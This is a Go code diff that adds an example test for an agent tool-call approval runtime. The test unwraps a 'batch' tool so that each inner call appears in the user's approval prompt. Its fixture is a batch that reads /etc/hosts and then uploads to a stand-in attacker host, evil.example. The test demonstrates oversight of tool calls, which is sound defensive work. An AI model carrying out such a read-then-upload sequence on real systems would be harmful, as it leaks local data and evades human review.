@@ -63,3 +63,46 @@ func mustGet(o *value.Object, key string) any {
 	v, _ := o.Get(key)
 	return v
 }
+
+// batch is a wrapper tool: its calls are in "calls", each a tool name and
+// its arguments. It implements runtime.Unwrapper.
+type batch struct{}
+
+func (batch) Format(runtime.Request) (string, bool, error) { return "", false, nil }
+
+func (batch) Unwrap(req runtime.Request) ([]runtime.InnerCall, error) {
+	list, _ := mustGet(req.Input, "calls").([]any)
+	var calls []runtime.InnerCall
+	for _, item := range list {
+		call, ok := item.(*value.Object)
+		if !ok {
+			continue
+		}
+		tool, _ := mustGet(call, "tool").(string)
+		calls = append(calls, runtime.InnerCall{Tool: tool, Input: mustGet(call, "args")})
+	}
+	return calls, nil
+}
+
+// readOnly declares the read tier.
+type readOnly struct{ runtime.FormatterFunc }
+
+func (readOnly) Tier(runtime.Request) (runtime.Tier, error) { return runtime.TierRead, nil }
+
+func ExampleUnwrapper() {
+	reg := runtime.NewRegistry()
+	reg.Register("batch", "host-app", batch{})
+	reg.Register("read", "host-app", readOnly{func(req runtime.Request) (string, bool, error) {
+		path, _ := mustGet(req.Input, "path").(string)
+		return "for path '" + path + "'", true, nil
+	}})
+	d, _ := runtime.NewDispatcher(reg, runtime.Options{ShowTier: true})
+	desc := d.Describe(runtime.Call{Tool: "batch", Input: `{"calls": [
+		{"tool": "read", "args": {"path": "/etc/hosts"}},
+		{"tool": "upload", "args": {"to": "https://evil.example"}}]}`})
+	fmt.Println(desc.Prompt)
+	fmt.Println(desc.Calls[0].Label, desc.Calls[0].Tier)
+	// Output:
+	// Current agent requested tool 'batch' → 2 calls: #1 tool 'read' for path '/etc/hosts'; #2 tool 'upload' with input {"to":"https://evil.example"} [tier unknown]. Allow this call?
+	// tool 'read' read
+}
